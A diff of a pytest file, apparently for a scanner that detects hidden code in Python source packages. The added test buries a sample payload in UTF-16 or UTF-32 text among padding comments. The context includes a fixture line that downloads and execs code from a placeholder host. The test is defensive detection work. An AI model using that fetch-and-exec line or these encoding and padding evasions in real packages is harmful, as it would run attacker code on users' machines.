@@ -106,6 +106,13 @@ def test_what_only_looks_wide(name, before, make, examine):
     examine(make.sdist({name: before + make.code})).is_found(f"demo-1.0/{name}", bucket)
 
 
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le"])
+@pytest.mark.parametrize("name", ["demo/x.py", "demo/x.sh"])
+def test_wide_text_among_other_text(name, encoding, make, examine):
+    data = b"# a comment\n" * 500 + make.code.decode().encode(encoding) + b"\n# a comment" * 500
+    examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", "rest" if name.endswith("py") else "text")
+
+
 ONE = 'exec(urllib.request.urlopen("http://example.invalid/stage").read())'
 SPELLINGS = {
     "mark": "\ufeff" + ONE,
